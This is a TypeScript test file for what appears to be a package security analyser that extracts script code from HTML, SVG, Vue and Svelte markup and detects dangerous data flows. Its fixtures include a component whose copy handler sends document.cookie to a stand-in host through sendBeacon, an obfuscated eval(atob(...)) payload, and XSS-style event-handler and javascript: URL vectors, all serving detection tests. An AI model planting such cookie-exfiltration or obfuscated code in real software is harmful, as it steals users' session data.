import assert from 'node:assert/strict';
import fc from 'fast-check';
import { analysePackage } from '../../../../server/src/artifacts/analysis/analyse.js';
import { plainCode } from '../../../../server/src/artifacts/analysis/code/package/parse.js';
import { codeInMarkup, isMarkup } from '../../../../server/src/artifacts/analysis/markup/markup-code.js';
import { packageOf } from '../../../support/artifacts.js';

const code = (text: string): string => codeInMarkup(text, plainCode);
/** As a reader sees it: without what is blank. */
const dense = (text: string): string => code(text).replace(/\s+/g, ' ').trim();

describe('the code of a page', () => {
  const pages: readonly (readonly [what: string, page: string, code: string])[] = [
    ['scripts', '<p>a</p><script>f()</script><script type="module">g()</script>', ';f() ;g()'],
    ['scripts behind a comment that no line ends', '<script>f() // x</script><script>g()</script>', ';f() // x ;g()'],
    ['event handlers', `<img src=x onerror="f('a')"><a onclick='g()'>`, "{f('a')} {g()}"],
    ['handlers with entities', '<body onload="&#102;&lpar;&rpar;">', '{f()}'],
    ['addresses that are code', '<a href="javascript:f()">x</a><iframe src=" javascript:g()">', '{f()} {g()}'],
    ['pictures', '<svg><script><![CDATA[ f() ]]></script><svg:script>g()</svg:script></svg>', '; f() ;g()'],
    [
      'components in TypeScript',
      '<template><p/></template>\n<script setup lang="ts">\nf(1 as number)\n</script>',
      '; f(1 )',
    ],
    ['a script that is never closed', '<script>f()', ';f()'],
  ];
  for (const [what, page, expected] of pages)
    it(`is that of ${what}`, () => {
      assert.equal(dense(page), expected);
      assert.ok(plainCode(code(page), false) !== undefined);
    });

  it('is none of data, of templates, of comments, and of scripts from elsewhere', () => {
    const pages = [
      '<script type="application/json">{"a": 1}</script>',
      '<script>var x = {{ data }};</script>',
      '<!-- <script>f()</script> -->',
      '<script src="https://cdn.example/a.js"></script><a href="https://x.example" title="onload">',
    ];
    for (const page of pages) assert.equal(dense(page), '');
  });

  it('stays in its line and column', () => {
    const page = '<html>\n <script>\n  evil();</script>\n<p onclick="more()">';
    const lines = code(page).split('\n');
    assert.deepEqual([lines[2]?.indexOf('evil'), lines[3]?.indexOf('more')], [2, 12]);
  });

  it('leaves every line where it is, whatever the page is', () => {
    fc.assert(
      fc.property(fc.stringMatching(/^(?:<script>|<\/script>|<a on=""|>|x|\n|'|<!--){0,30}$/), (page) => {
        const before = page.split('\n').length;
        assert.ok(code(page).split('\n').length <= before);
      }),
    );
  });

  it('is that of components, which are imported like modules', () => {
    const send = `await navigator.sendBeacon('https://collect.invalid', document.cookie as string);`;
    for (const [name, component] of [
      [
        'Button.vue',
        `<template><button @click="copy" /></template>\n<script setup lang="ts">\nimport { ref } from 'vue';\nconst props = defineProps<{ text: string }>();\nasync function copy(): Promise<void> { ${send} }\n</script>`,
      ],
      [
        'Button.svelte',
        `<script lang="ts">\nexport let text: string;\nasync function copy() { ${send} }\n</script>\n<button on:click={copy}>{text}</button>`,
      ],
    ] as const) {
      const { flows } = analysePackage(
        packageOf({
          'index.js': `import Button from './${name}';\nexport default { install: (app) => app.component('Button', Button) };`,
          [name]: component,
        }),
      );
      const seen = flows.map(({ source, sink, to }) => `${source}>${sink} ${to.file}`);
      assert.deepEqual(seen, [`page-storage>network ${name}`]);
    }
  });

  it('is analysed like a file of JavaScript that something calls', () => {
    const page = "<html>\n<script>\n eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKTs='));\n</script></html>";
    const { flows } = analysePackage(packageOf({ 'package.json': '{}', 'docs/index.html': page, 'a.svg': page }));
    assert.deepEqual(
      flows.map(({ source, sink, moment, to }) => [source, sink, moment, to.file, to.line]),
      [
        ['decoded', 'evaluated', 'call', 'docs/index.html', 3],
        ['decoded', 'evaluated', 'call', 'a.svg', 3],
      ],
    );
    assert.ok(isMarkup('a/INDEX.XHTML') && !isMarkup('a.html.js'));
  });
});
